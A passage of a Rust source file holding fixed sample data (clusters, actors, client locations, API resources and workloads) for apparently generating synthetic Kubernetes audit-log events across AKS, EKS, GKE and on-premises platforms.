//! The world the events happen in: clusters, people and programs,
//! resources and workloads, and the Resource Manager operations of a mixed
//! sample. Fixed data, shared by every platform and format.

/// Where a Kubernetes cluster runs: decides its data source and native format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Platform {
    Aks,
    Eks,
    Gke,
    OnPrem,
}

/// A cluster of the sample.
pub(crate) struct Cluster {
    pub(crate) data_source: &'static str,
    pub(crate) name: &'static str,
    pub(crate) resource_id: &'static str,
    pub(crate) azure_resource_id: &'static str,
    pub(crate) platform: Platform,
    /// In-cluster addresses are this prefix plus a last octet.
    pub(crate) subnet: &'static str,
    pub(crate) nodes: &'static [&'static str],
    pub(crate) weight: u32,
}

/// The data source the exec and privileged-pod rules filter on.
pub(crate) const AKS: &str = "Azure Kubernetes Service";

/// The clusters, weighted by how much audit traffic each makes.
pub(crate) const CLUSTERS: &[Cluster] = &[
    Cluster {
        data_source: AKS,
        name: "aks-prod",
        resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourcegroups/rg-aks-prod/providers/microsoft.containerservice/managedclusters/aks-prod",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod",
        platform: Platform::Aks,
        subnet: "10.224.0.",
        nodes: &[
            "aks-nodepool1-38947562-vmss000000",
            "aks-nodepool1-38947562-vmss000001",
            "aks-nodepool1-38947562-vmss000002",
            "aks-userpool-38947562-vmss000000",
            "aks-userpool-38947562-vmss000001",
            "aks-userpool-38947562-vmss000003",
        ],
        weight: 45,
    },
    Cluster {
        data_source: AKS,
        name: "aks-dev",
        resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourcegroups/rg-aks-dev/providers/microsoft.containerservice/managedclusters/aks-dev",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-dev/providers/Microsoft.ContainerService/managedClusters/aks-dev",
        platform: Platform::Aks,
        subnet: "10.240.0.",
        nodes: &[
            "aks-system-21759934-vmss000000",
            "aks-system-21759934-vmss000001",
            "aks-spot-21759934-vmss00000a",
        ],
        weight: 20,
    },
    Cluster {
        data_source: AKS,
        name: "aks-payments-weu",
        resource_id: "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourcegroups/rg-payments-weu/providers/microsoft.containerservice/managedclusters/aks-payments-weu",
        azure_resource_id: "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourceGroups/rg-payments-weu/providers/Microsoft.ContainerService/managedClusters/aks-payments-weu",
        platform: Platform::Aks,
        subnet: "10.20.8.",
        nodes: &[
            "aks-nodepool1-60213847-vmss000000",
            "aks-nodepool1-60213847-vmss000001",
            "aks-nodepool1-60213847-vmss000002",
            "aks-nodepool1-60213847-vmss000004",
        ],
        weight: 15,
    },
    Cluster {
        data_source: "Amazon Elastic Kubernetes Service",
        name: "eks-prod",
        resource_id: "arn:aws:eks:us-east-1:111122223333:cluster/eks-prod",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-mdc-connectors/providers/Microsoft.Security/securityConnectors/aws-111122223333",
        platform: Platform::Eks,
        subnet: "192.168.32.",
        nodes: &[
            "ip-192-168-32-17.ec2.internal",
            "ip-192-168-45-102.ec2.internal",
            "ip-192-168-71-230.ec2.internal",
        ],
        weight: 12,
    },
    Cluster {
        data_source: "Kubernetes Audit",
        name: "onprem-dc1",
        resource_id: "",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-arc/providers/Microsoft.Kubernetes/connectedClusters/onprem-dc1",
        platform: Platform::OnPrem,
        subnet: "172.20.4.",
        nodes: &["k8s-worker-01.dc1.contoso.local", "k8s-worker-02.dc1.contoso.local", "k8s-worker-03.dc1.contoso.local"],
        weight: 6,
    },
    Cluster {
        data_source: "Google Kubernetes Engine",
        name: "gke-prod",
        resource_id: "//container.googleapis.com/projects/contoso-prod/locations/us-central1/clusters/gke-prod",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-mdc-connectors/providers/Microsoft.Security/securityConnectors/gcp-contoso-prod",
        platform: Platform::Gke,
        subnet: "10.128.0.",
        nodes: &[
            "gke-gke-prod-default-pool-1a2b3c4d-xk2p",
            "gke-gke-prod-default-pool-1a2b3c4d-q7rz",
            "gke-gke-prod-highmem-pool-5e6f7a8b-m4tn",
        ],
        weight: 8,
    },
];

/// Where a person connects from, with the geolocation Defender adds.
pub(crate) struct Client {
    pub(crate) ip: &'static str,
    /// `IsAnonymousProxy` as JSON.
    pub(crate) anonymous_proxy: &'static str,
    pub(crate) country: &'static str,
    pub(crate) city: &'static str,
    pub(crate) isp: &'static str,
}

/// An office in Redmond.
const REDMOND: Client = Client {
    ip: "203.0.113.24",
    anonymous_proxy: "false",
    country: "US",
    city: "Redmond",
    isp: "Contoso Networks",
};
/// An office in Seattle.
const SEATTLE: Client = Client {
    ip: "203.0.113.180",
    anonymous_proxy: "false",
    country: "US",
    city: "Seattle",
    isp: "Contoso Networks",
};
/// A VPN exit: an anonymous proxy.
const AMSTERDAM_VPN: Client = Client {
    ip: "198.51.100.77",
    anonymous_proxy: "true",
    country: "NL",
    city: "Amsterdam",
    isp: "Example Hosting B.V.",
};
/// A build agent in Frankfurt.
const FRANKFURT: Client = Client {
    ip: "192.0.2.15",
    anonymous_proxy: "false",
    country: "DE",
    city: "Frankfurt am Main",
    isp: "Example Telecom GmbH",
};
/// A home connection in London, over IPv6.
const LONDON: Client = Client {
    ip: "2001:db8:4a2::17",
    anonymous_proxy: "false",
    country: "GB",
    city: "London",
    isp: "Example Broadband Ltd",
};
/// An office in Bengaluru.
const BENGALURU: Client = Client {
    ip: "198.51.100.203",
    anonymous_proxy: "false",
    country: "IN",
    city: "Bengaluru",
    isp: "Example Fibernet Pvt Ltd",
};

/// What kind of identity an actor is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Role {
    /// A kubelet: `system:node:<node>`, named per event.
    Node,
    /// A kube-controller-manager loop.
    Controller,
    /// A control-plane or add-on component.
    Component,
    /// A person (or their CI), from outside the cluster.
    Human,
    /// AKS's own management identities (`acsService`, `masterclient`).
    AksInternal,
}

/// An identity that calls the API server.
pub(crate) struct Actor {
    /// For [`Role::Node`], the prefix the node name is appended to.
    pub(crate) username: &'static str,
    pub(crate) role: Role,
    /// Platforms the identity exists on; empty means all.
    pub(crate) platforms: &'static [Platform],
    pub(crate) uid: &'static str,
    pub(crate) groups: &'static [&'static str],
    /// `User.extra` as JSON text, or empty.
    pub(crate) extra: &'static str,
    pub(crate) user_agents: &'static [&'static str],
    /// People only: where they connect from.
    pub(crate) clients: &'static [Client],
    /// Resources this identity reads; empty means any.
    pub(crate) reads: &'static [&'static str],
    /// `authorization.k8s.io/reason` of allowed requests.
    pub(crate) authz_reason: &'static str,
}

/// Groups of a `kube-system` service account.
const SA_GROUPS_KUBE_SYSTEM: &[&str] = &[
    "system:serviceaccounts",
    "system:serviceaccounts:kube-system",
    "system:authenticated",
];

/// User agent of kube-controller-manager itself.
const KCM: &str = "kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d";

/// A kube-controller-manager loop, running as its `kube-system` service
/// account.
const fn controller(
    username: &'static str,
    uid: &'static str,
    user_agent: &'static [&'static str],
    reads: &'static [&'static str],
    authz_reason: &'static str,
) -> Actor {
    Actor {
        username,
        role: Role::Controller,
        platforms: &[],
        uid,
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: user_agent,
        clients: &[],
        reads,
        authz_reason,
    }
}

/// Everyone who calls the API server: kubelets, controllers, components,
/// AKS itself and people.
pub(crate) const ACTORS: &[Actor] = &[
    Actor {
        username: "system:node:",
        role: Role::Node,
        platforms: &[],
        uid: "",
        groups: &["system:nodes", "system:authenticated"],
        extra: "",
        user_agents: &["kubelet/v1.28.5 (linux/amd64) kubernetes/506050d"],
        clients: &[],
        reads: &["pods", "configmaps", "secrets", "services", "nodes", "csinodes", "persistentvolumeclaims", "serviceaccounts", "runtimeclasses"],
        authz_reason: "",
    },
    controller(
        "system:serviceaccount:kube-system:replicaset-controller",
        "313bdd2f-1aca-5394-8587-484e3ba9b575",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:replicaset-controller"],
        &["pods", "replicasets"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:replicaset-controller\" of ClusterRole \"system:controller:replicaset-controller\" to ServiceAccount \"replicaset-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:deployment-controller",
        "6c1f0e3a-7d2b-5b48-9a0e-1f2d3c4b5a69",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:deployment-controller"],
        &["deployments", "replicasets", "pods"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:deployment-controller\" of ClusterRole \"system:controller:deployment-controller\" to ServiceAccount \"deployment-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:daemon-set-controller",
        "4bd68f69-149e-5c0d-b547-1c9863079ac9",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:daemon-set-controller"],
        &["daemonsets", "pods", "nodes", "controllerrevisions"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:daemon-set-controller\" of ClusterRole \"system:controller:daemon-set-controller\" to ServiceAccount \"daemon-set-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:job-controller",
        "a7e39c14-0b6d-5f21-8c3e-9d4f5a6b7c80",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:job-controller"],
        &["jobs", "pods", "cronjobs"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:job-controller\" of ClusterRole \"system:controller:job-controller\" to ServiceAccount \"job-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:endpointslice-controller",
        "b2d4f6a8-1c3e-5a7b-9d0f-2e4a6c8b0d1f",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:endpointslice-controller"],
        &["endpointslices", "services", "pods", "nodes"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:endpointslice-controller\" of ClusterRole \"system:controller:endpointslice-controller\" to ServiceAccount \"endpointslice-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:generic-garbage-collector",
        "c9e1a3b5-7d2f-5e4a-8b6c-0d1e2f3a4b5c",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:generic-garbage-collector"],
        &[],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:generic-garbage-collector\" of ClusterRole \"system:controller:generic-garbage-collector\" to ServiceAccount \"generic-garbage-collector/kube-system\"",
    ),
    Actor {
        username: "system:kube-controller-manager",
        role: Role::Component,
        platforms: &[],
        uid: "",
        groups: &["system:authenticated"],
        extra: "",
        user_agents: &[KCM, "kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/leader-election"],
        clients: &[],
        reads: &["leases", "configmaps", "secrets", "serviceaccounts", "nodes"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:kube-controller-manager\" of ClusterRole \"system:kube-controller-manager\" to User \"system:kube-controller-manager\"",
    },
    Actor {
        username: "system:kube-scheduler",
        role: Role::Component,
        platforms: &[],
        uid: "",
        groups: &["system:authenticated"],
        extra: "",
        user_agents: &["kube-scheduler/v1.28.5 (linux/amd64) kubernetes/506050d/scheduler", "kube-scheduler/v1.28.5 (linux/amd64) kubernetes/506050d/leader-election"],
        clients: &[],
        reads: &["leases", "pods", "nodes", "persistentvolumeclaims", "csinodes", "storageclasses", "namespaces"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:kube-scheduler\" of ClusterRole \"system:kube-scheduler\" to User \"system:kube-scheduler\"",
    },
    Actor {
        username: "system:apiserver",
        role: Role::Component,
        platforms: &[],
        uid: "0c3a7f92-5e1d-4b8a-9f6c-2d7e0a4b1c35",
        groups: &["system:masters"],
        extra: "",
        user_agents: &["kube-apiserver/v1.28.5 (linux/amd64) kubernetes/506050d"],
        clients: &[],
        reads: &["namespaces", "configmaps", "leases", "priorityclasses", "flowschemas"],
        authz_reason: "",
    },
    Actor {
        username: "system:serviceaccount:kube-system:coredns",
        role: Role::Component,
        platforms: &[],
        uid: "e84b2c61-3f7a-5d09-a1b8-6c4d2e0f9a37",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["coredns/v0.0.0 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["endpointslices", "services", "namespaces"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:coredns\" of ClusterRole \"system:coredns\" to ServiceAccount \"coredns/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:kube-system:metrics-server",
        role: Role::Component,
        platforms: &[],
        uid: "f1a2b3c4-d5e6-5f70-8192-a3b4c5d6e7f8",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["metrics-server/v0.6.4 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["nodes", "pods", "configmaps"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:metrics-server\" of ClusterRole \"system:metrics-server\" to ServiceAccount \"metrics-server/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:kube-system:ama-logs",
        role: Role::Component,
        platforms: &[Platform::Aks],
        uid: "2b7c9d1e-4f6a-5b8c-9d0e-1f2a3b4c5d6e",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["ama-logs/3.1.19 (linux/amd64)", "Go-http-client/2.0"],
        clients: &[],
        reads: &["pods", "nodes", "events", "services", "deployments", "replicasets", "namespaces"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"amalogsclusterrolebinding\" of ClusterRole \"amalogsclusterrole\" to ServiceAccount \"ama-logs/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:kube-system:cloud-node-manager",
        role: Role::Component,
        platforms: &[Platform::Aks],
        uid: "7e8f9a0b-1c2d-5e3f-8a4b-5c6d7e8f9a0b",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["cloud-node-manager/v1.28.5 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["nodes"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:cloud-node-manager\" of ClusterRole \"cloud-node-manager\" to ServiceAccount \"cloud-node-manager/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:monitoring:kube-state-metrics",
        role: Role::Component,
        platforms: &[],
        uid: "93a1c5e7-0b2d-5f4e-8a6c-7b9d1e3f5a2c",
        groups: &["system:serviceaccounts", "system:serviceaccounts:monitoring", "system:authenticated"],
        extra: "",
        user_agents: &["kube-state-metrics/v2.10.1 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["pods", "deployments", "daemonsets", "statefulsets", "replicasets", "jobs", "cronjobs", "nodes", "namespaces", "persistentvolumeclaims", "services", "configmaps", "secrets", "leases", "ingresses"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"kube-state-metrics\" of ClusterRole \"kube-state-metrics\" to ServiceAccount \"kube-state-metrics/monitoring\"",
    },
    Actor {
        username: "system:serviceaccount:argocd:argocd-application-controller",
        role: Role::Component,
        platforms: &[],
        uid: "d4c3b2a1-9f8e-5d7c-b6a5-4f3e2d1c0b9a",
        groups: &["system:serviceaccounts", "system:serviceaccounts:argocd", "system:authenticated"],
        extra: "",
        user_agents: &["argocd-application-controller/v2.10.4 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"argocd-application-controller\" of ClusterRole \"argocd-application-controller\" to ServiceAccount \"argocd-application-controller/argocd\"",
    },
    Actor {
        username: "system:serviceaccount:cert-manager:cert-manager",
        role: Role::Component,
        platforms: &[],
        uid: "5a6b7c8d-9e0f-5a1b-8c2d-3e4f5a6b7c8d",
        groups: &["system:serviceaccounts", "system:serviceaccounts:cert-manager", "system:authenticated"],
        extra: "",
        user_agents: &["cert-manager-controller/v1.14.5 (linux/amd64) cert-manager/0a1b2c3d"],
        clients: &[],
        reads: &["secrets", "leases", "ingresses", "certificates"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"cert-manager-controller-certificates\" of ClusterRole \"cert-manager-controller-certificates\" to ServiceAccount \"cert-manager/cert-manager\"",
    },
    Actor {
        username: "system:serviceaccount:ingress-nginx:ingress-nginx",
        role: Role::Component,
        platforms: &[],
        uid: "1f2e3d4c-5b6a-5978-8a9b-0c1d2e3f4a5b",
        groups: &["system:serviceaccounts", "system:serviceaccounts:ingress-nginx", "system:authenticated"],
        extra: "",
        user_agents: &["nginx-ingress-controller/v1.10.1 (linux/amd64) ingress-nginx/4fb5aac"],
        clients: &[],
        reads: &["ingresses", "endpointslices", "services", "secrets", "configmaps", "leases", "ingressclasses"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ingress-nginx\" of ClusterRole \"ingress-nginx\" to ServiceAccount \"ingress-nginx/ingress-nginx\"",
    },
    Actor {
        username: "acsService",
        role: Role::AksInternal,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["system:masters", "system:authenticated"],
        extra: "",
        user_agents: &["aks-rp/1.0", "Go-http-client/1.1"],
        clients: &[],
        reads: &["configmaps", "clusterrolebindings", "clusterroles", "namespaces", "nodes", "deployments", "daemonsets", "secrets"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"aks-cluster-admin-binding\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"",
    },
    Actor {
        username: "masterclient",
        role: Role::AksInternal,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["system:masters", "system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.28.5 (linux/amd64) kubernetes/506050d"],
        clients: &[],
        reads: &["pods", "nodes", "namespaces", "configmaps"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"aks-cluster-admin-binding\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"",
    },
    Actor {
        username: "alice@contoso.com",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["aad:ops-team", "system:authenticated"],
        extra: "{\"oid\":[\"5b1e7c3a-2f4d-4a8e-b6c1-9d0e3f2a7b15\"]}",
        user_agents: &[
            "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
            "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
            "Helm/3.14.4",
            "k9s/v0.32.4 (linux/amd64) kubernetes/$Format",
        ],
        clients: &[REDMOND, REDMOND, AMSTERDAM_VPN],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ops-team-admin\" of ClusterRole \"cluster-admin\" to Group \"aad:ops-team\"",
    },
    Actor {
        username: "bob@contoso.com",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["aad:ops-team", "system:authenticated"],
        extra: "{\"oid\":[\"8c2d4e6f-1a3b-4c5d-9e7f-0a1b2c3d4e5f\"]}",
        user_agents: &[
            "kubectl/v1.28.3 (darwin/arm64) kubernetes/a8a1abc",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
        ],
        clients: &[SEATTLE, LONDON],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ops-team-admin\" of ClusterRole \"cluster-admin\" to Group \"aad:ops-team\"",
    },
    Actor {
        username: "dev-intern@contoso.com",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["aad:developers", "system:authenticated"],
        extra: "{\"oid\":[\"1e9d7c5b-3a2f-4e6d-8c0b-a9f8e7d6c5b4\"]}",
        user_agents: &["kubectl.exe/v1.28.3 (windows/amd64) kubernetes/a8a1abc"],
        clients: &[BENGALURU],
        reads: &["pods", "deployments", "services", "configmaps", "events", "namespaces"],
        authz_reason: "RBAC: allowed by RoleBinding \"developers-edit/payments\" of ClusterRole \"edit\" to Group \"aad:developers\"",
    },
    Actor {
        username: "system:serviceaccount:ci:github-actions-deployer",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "0d9e8f7a-6b5c-5d4e-9f3a-2b1c0d9e8f7a",
        groups: &["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "Helm/3.14.4"],
        clients: &[FRANKFURT],
        reads: &["deployments", "services", "configmaps", "secrets", "pods", "ingresses"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ci-deployer\" of ClusterRole \"admin\" to ServiceAccount \"github-actions-deployer/ci\"",
    },
    Actor {
        username: "arn:aws:sts::111122223333:assumed-role/PlatformAdmin/jdoe",
        role: Role::Human,
        platforms: &[Platform::Eks],
        uid: "aws-iam-authenticator:111122223333:AROAEXAMPLEROLEID0001",
        groups: &["system:masters", "system:authenticated"],
        extra: "{\"accessKeyId\":[\"ASIAEXAMPLEKEYID0001\"],\"arn\":[\"arn:aws:sts::111122223333:assumed-role/PlatformAdmin/jdoe\"],\"canonicalArn\":[\"arn:aws:iam::111122223333:role/PlatformAdmin\"],\"sessionName\":[\"jdoe\"]}",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "Helm/3.14.4"],
        clients: &[FRANKFURT, REDMOND],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"cluster-admin\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"",
    },
    Actor {
        username: "arn:aws:sts::111122223333:assumed-role/Developer/asmith",
        role: Role::Human,
        platforms: &[Platform::Eks],
        uid: "aws-iam-authenticator:111122223333:AROAEXAMPLEROLEID0002",
        groups: &["developers", "system:authenticated"],
        extra: "{\"accessKeyId\":[\"ASIAEXAMPLEKEYID0002\"],\"arn\":[\"arn:aws:sts::111122223333:assumed-role/Developer/asmith\"],\"canonicalArn\":[\"arn:aws:iam::111122223333:role/Developer\"],\"sessionName\":[\"asmith\"]}",
        user_agents: &["kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"],
        clients: &[LONDON],
        reads: &["pods", "deployments", "services", "configmaps", "events"],
        authz_reason: "RBAC: allowed by RoleBinding \"developers/default\" of ClusterRole \"edit\" to Group \"developers\"",
    },
    Actor {
        username: "carol@contoso-gcp.example",
        role: Role::Human,
        platforms: &[Platform::Gke],
        uid: "",
        groups: &["system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"],
        clients: &[FRANKFURT, SEATTLE],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to User \"carol@contoso-gcp.example\"",
    },
    Actor {
        username: "kubernetes-admin",
        role: Role::Human,
        platforms: &[Platform::OnPrem],
        uid: "",
        groups: &["system:masters", "system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"],
        clients: &[FRANKFURT],
        reads: &[],
        authz_reason: "",
    },
    Actor {
        username: "oidc:dave@contoso.com",
        role: Role::Human,
        platforms: &[Platform::OnPrem],
        uid: "",
        groups: &["oidc:platform-team", "system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "k9s/v0.32.4 (linux/amd64)"],
        clients: &[SEATTLE, AMSTERDAM_VPN],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"platform-team\" of ClusterRole \"cluster-admin\" to Group \"oidc:platform-team\"",
    },
];

/// An API resource as it appears in `ObjectRef` and request paths.
pub(crate) struct Resource {
    pub(crate) name: &'static str,
    pub(crate) group: &'static str,
    pub(crate) version: &'static str,
    pub(crate) namespaced: bool,
    pub(crate) naming: Naming,
    /// How often people and programs read it, relative to the others.
    pub(crate) weight: u32,
}

/// How objects of a resource are named.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Naming {
    Pod,
    App,
    ReplicaSet,
    Random,
    Node,
    Lease,
    ConfigMap,
    Secret,
    Namespace,
    Event,
    ClusterRole,
    ClusterRoleBinding,
    Fixed(&'static str),
}

/// A row of [`RESOURCES`].
const fn api_resource(
    name: &'static str,
    group: &'static str,
    version: &'static str,
    namespaced: bool,
    naming: Naming,
    weight: u32,
) -> Resource {
    Resource {
        name,
        group,
        version,
        namespaced,
        naming,
        weight,
    }
}

/// The API resources events touch.
#[rustfmt::skip]
pub(crate) const RESOURCES: &[Resource] = &[
    // name, API group, version, namespaced, naming, read weight
    api_resource("pods", "", "v1", true, Naming::Pod, 30),
    api_resource("configmaps", "", "v1", true, Naming::ConfigMap, 14),
    api_resource("secrets", "", "v1", true, Naming::Secret, 10),
    api_resource("services", "", "v1", true, Naming::App, 6),
    api_resource("endpoints", "", "v1", true, Naming::App, 3),
    api_resource("endpointslices", "discovery.k8s.io", "v1", true, Naming::Random, 6),
    api_resource("nodes", "", "v1", false, Naming::Node, 12),
    api_resource("namespaces", "", "v1", false, Naming::Namespace, 4),
    api_resource("serviceaccounts", "", "v1", true, Naming::App, 3),
    api_resource("events", "", "v1", true, Naming::Event, 2),
    api_resource("persistentvolumeclaims", "", "v1", true, Naming::Random, 2),
    api_resource("persistentvolumes", "", "v1", false, Naming::Random, 1),
    api_resource("deployments", "apps", "v1", true, Naming::App, 5),
    api_resource("replicasets", "apps", "v1", true, Naming::ReplicaSet, 4),
    api_resource("daemonsets", "apps", "v1", true, Naming::App, 2),
    api_resource("statefulsets", "apps", "v1", true, Naming::App, 1),
    api_resource("controllerrevisions", "apps", "v1", true, Naming::ReplicaSet, 1),
    api_resource("jobs", "batch", "v1", true, Naming::Random, 1),
    api_resource("cronjobs", "batch", "v1", true, Naming::App, 1),
    api_resource("leases", "coordination.k8s.io", "v1", true, Naming::Lease, 6),
    api_resource("ingresses", "networking.k8s.io", "v1", true, Naming::App, 2),
    api_resource("ingressclasses", "networking.k8s.io", "v1", false, Naming::Fixed("nginx"), 1),
    api_resource("networkpolicies", "networking.k8s.io", "v1", true, Naming::App, 1),
    api_resource("clusterroles", "rbac.authorization.k8s.io", "v1", false, Naming::ClusterRole, 1),
    api_resource("clusterrolebindings", "rbac.authorization.k8s.io", "v1", false, Naming::ClusterRoleBinding, 1),
    api_resource("roles", "rbac.authorization.k8s.io", "v1", true, Naming::App, 1),
    api_resource("rolebindings", "rbac.authorization.k8s.io", "v1", true, Naming::App, 1),
    api_resource("csinodes", "storage.k8s.io", "v1", false, Naming::Node, 2),
    api_resource("storageclasses", "storage.k8s.io", "v1", false, Naming::Fixed("managed-csi"), 1),
    api_resource("runtimeclasses", "node.k8s.io", "v1", false, Naming::Fixed("runc"), 1),
    api_resource("priorityclasses", "scheduling.k8s.io", "v1", false, Naming::Fixed("system-node-critical"), 1),
    api_resource("flowschemas", "flowcontrol.apiserver.k8s.io", "v1beta3", false, Naming::Fixed("exempt"), 1),
    api_resource("certificates", "cert-manager.io", "v1", true, Naming::App, 1),
    api_resource("customresourcedefinitions", "apiextensions.k8s.io", "v1", false, Naming::Fixed("certificates.cert-manager.io"), 1),
    // Only ever created, never read.
    api_resource("tokenreviews", "authentication.k8s.io", "v1", false, Naming::Fixed(""), 0),
    api_resource("subjectaccessreviews", "authorization.k8s.io", "v1", false, Naming::Fixed(""), 0),
];

/// A workload: its pods are what kubelets, controllers and people touch.
pub(crate) struct App {
    pub(crate) namespace: &'static str,
    pub(crate) name: &'static str,
    pub(crate) image: &'static str,
    pub(crate) daemon_set: bool,
    /// Whether a real deployment of this add-on runs privileged containers;
    /// such pods are only created where no rule can see them.
    pub(crate) privileged: bool,
    pub(crate) port: u16,
}

/// A row of [`APPS`].
const fn app(
    namespace: &'static str,
    name: &'static str,
    image: &'static str,
    daemon_set: bool,
    privileged: bool,
    port: u16,
) -> App {
    App {
        namespace,
        name,
        image,
        daemon_set,
        privileged,
        port,
    }
}

/// The workloads that run on every cluster.
#[rustfmt::skip]
pub(crate) const APPS: &[App] = &[
    // namespace, name, image, daemon set, privileged, port (0: none)
    app("kube-system", "coredns", "mcr.microsoft.com/oss/kubernetes/coredns:v1.9.4", false, false, 53),
    app("kube-system", "metrics-server", "mcr.microsoft.com/oss/kubernetes/metrics-server:v0.6.4", false, false, 4443),
    app("kube-system", "konnectivity-agent", "mcr.microsoft.com/oss/kubernetes/apiserver-network-proxy/agent:v0.1.6", false, false, 8082),
    app("kube-system", "kube-proxy", "mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.28.5", true, true, 10249),
    app("kube-system", "azure-ip-masq-agent", "mcr.microsoft.com/aks/ip-masq-agent-v2:v0.1.11", true, false, 0),
    app("kube-system", "cloud-node-manager", "mcr.microsoft.com/oss/kubernetes/azure-cloud-node-manager:v1.28.9", true, false, 10263),
    app("kube-system", "csi-azuredisk-node", "mcr.microsoft.com/oss/kubernetes-csi/azuredisk-csi:v1.29.5", true, true, 29603),
